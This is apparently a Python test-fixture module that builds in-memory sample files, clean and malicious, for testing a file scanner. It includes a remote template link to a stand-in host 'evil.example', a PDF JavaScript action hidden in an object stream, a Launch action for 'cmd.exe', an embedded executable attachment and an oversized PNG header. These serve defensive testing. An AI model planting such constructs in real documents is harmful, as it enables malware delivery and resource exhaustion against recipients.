"""Files made in memory: good ones, and every kind of bad one."""

import struct
import zipfile
import zlib
from io import BytesIO

import openpyxl
import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
CONTENT_TYPES = '<?xml version="1.0"?><Types/>'
LINK = (
    '<Relationships><Relationship Id="r1" Type="http://x/officeDocument/attachedTemplate" '
    'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def pdf(pages: int = 1, **extra) -> bytes:
    """A PDF; ``extra`` goes into its catalogue (Root)."""
    out, made = BytesIO(), pikepdf.new()
    for _ in range(pages):
        made.add_blank_page()
    for key, value in extra.items():
        made.Root[f"/{key}"] = value
    made.save(out)
    return out.getvalue()


def pdf_with_password() -> bytes:
    out, made = BytesIO(), pikepdf.new()
    made.add_blank_page()
    made.save(out, encryption=pikepdf.Encryption(owner="o", user="u"))
    return out.getvalue()


def pdf_with_script_in_object_stream() -> bytes:
    """JavaScript deep in an annotation, packed into a compressed object stream."""
    out, made = BytesIO(), pikepdf.new()
    page = made.add_blank_page()
    action = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    note = made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, A=action))
    page.Annots = Array([note])
    made.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def pdf_with_attachment() -> bytes:
    out, made = BytesIO(), pikepdf.new()
    made.add_blank_page()
    made.attachments["a.exe"] = b"MZ"
    made.save(out)
    return out.getvalue()


def launch() -> Dictionary:
    return Dictionary(S=Name.Launch, F=String("cmd.exe"))


def xfa(made: bytes) -> bytes:
    out = BytesIO()
    with pikepdf.open(BytesIO(made)) as opened:
        opened.Root.AcroForm = Dictionary(XFA=Stream(opened, b"<xdp/>"), Fields=Array())
        opened.save(out)
    return out.getvalue()


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **options) -> bytes:
    out = BytesIO()
    Image.new("RGB", size, "teal").save(out, kind, **options)
    return out.getvalue()


def huge_png() -> bytes:
    """A PNG whose header promises 60,000 × 60,000 pixels."""

    def chunk(tag: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", zlib.crc32(tag + data))

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 100))
        + chunk(b"IEND", b"")
    )


def workbook() -> bytes:
    out, made = BytesIO(), openpyxl.Workbook()
    made.active["A1"] = "名称"
    made.save(out)
    return out.getvalue()


def package(**parts: str | bytes) -> bytes:
    """An Office package; ``__`` in a keyword stands for "/", ``_dot_`` for "."."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", CONTENT_TYPES)
        for name, content in parts.items():
            packed.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return out.getvalue()


def with_part(made: bytes, name: str, content: str | bytes) -> bytes:
    out = BytesIO(made)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(name, content)
    return out.getvalue()


def plain_zip() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("a.txt", "x")
    return out.getvalue()
